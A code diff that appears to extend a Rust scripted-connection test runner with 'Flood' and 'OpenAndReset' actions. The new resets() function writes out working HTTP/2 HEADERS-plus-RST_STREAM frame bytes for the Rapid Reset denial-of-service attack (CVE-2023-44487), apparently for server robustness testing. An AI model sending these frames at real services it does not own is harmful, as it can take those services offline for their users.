@@ -19,6 +19,8 @@ pub async fn run(wire: &mut Wire, acts: &[Act], name: &str) -> bool {
             Act::Reply(reply) => wire.send(&reply_bytes(reply, name)).await,
             Act::Send(bytes) => wire.send(&raw(bytes)).await,
             Act::Fill(count) => wire.send(&vec![b'x'; *count]).await,
+            Act::Flood(count, bytes) => wire.send(&raw(bytes).repeat(*count)).await,
+            Act::OpenAndReset(count) => wire.send(&resets(*count)).await,
             Act::Sleep(ms) => sleep(Duration::from_millis(*ms)).await,
             Act::Until(pattern) => {
                 let Ok(pattern) = Regex::new(pattern) else { return true };
@@ -55,6 +57,22 @@ pub async fn run(wire: &mut Wire, acts: &[Act], name: &str) -> bool {
         }
     }
     false
+}
+
+/// HEADERS with END_STREAM and END_HEADERS, then RST_STREAM with CANCEL, for that many streams (CVE-2023-44487).
+fn resets(count: u32) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for stream in (0..count).map(|n| 2 * n + 1) {
+        let id = stream.to_be_bytes();
+        bytes.extend([0, 0, 6, 1, 5]);
+        bytes.extend(id);
+        // :method GET, :path /, :scheme http, :authority a
+        bytes.extend([0x82, 0x84, 0x86, 0x41, 1, b'a']);
+        bytes.extend([0, 0, 4, 3, 0]);
+        bytes.extend(id);
+        bytes.extend([0, 0, 0, 8]);
+    }
+    bytes
 }
 
 /// A reply's body.
